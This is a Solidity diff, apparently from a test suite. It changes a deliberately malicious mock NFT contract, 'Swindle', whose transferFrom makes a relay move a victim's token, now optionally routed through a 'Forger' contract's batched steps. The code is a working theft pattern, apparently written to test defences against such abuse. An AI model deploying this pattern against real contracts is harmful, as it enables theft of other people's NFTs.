@@ -73,14 +73,14 @@ contract Maker {
     }
 }
 
-/// A collection that has a helper of its maker move another account's NFT whenever it is asked to move one.
+/// A collection that has a helper of its maker, or another contract by its hand, move another account's NFT whenever it is asked to move one.
 contract Swindle {
     string public name = "Swindle";
     string public symbol = "SWNDL";
-    Relay immutable relay = new Relay();
+    Relay immutable relay;
     address immutable victim;
     event Transfer(address indexed from, address indexed to, uint256 indexed tokenId);
-    constructor(address victim_) { victim = victim_; }
+    constructor(address victim_, Forger via) { (victim, relay) = (victim_, new Relay(via)); }
     function supportsInterface(bytes4) external pure returns (bool) { return true; }
     function transferFrom(address from, address to, uint256 tokenId) external {
         if (from != victim) relay.pass(victim, to, tokenId);
@@ -89,5 +89,12 @@ contract Swindle {
 }
 
 contract Relay {
-    function pass(address from, address to, uint256 tokenId) external { Swindle(msg.sender).transferFrom(from, to, tokenId); }
+    Forger immutable via;
+    constructor(Forger via_) { via = via_; }
+    function pass(address from, address to, uint256 tokenId) external {
+        if (address(via) == address(0)) return Swindle(msg.sender).transferFrom(from, to, tokenId);
+        Step[] memory steps = new Step[](1);
+        steps[0] = Step(msg.sender, 0, abi.encodeCall(Swindle.transferFrom, (from, to, tokenId)), new bytes32[](0));
+        via.play(steps);
+    }
 }
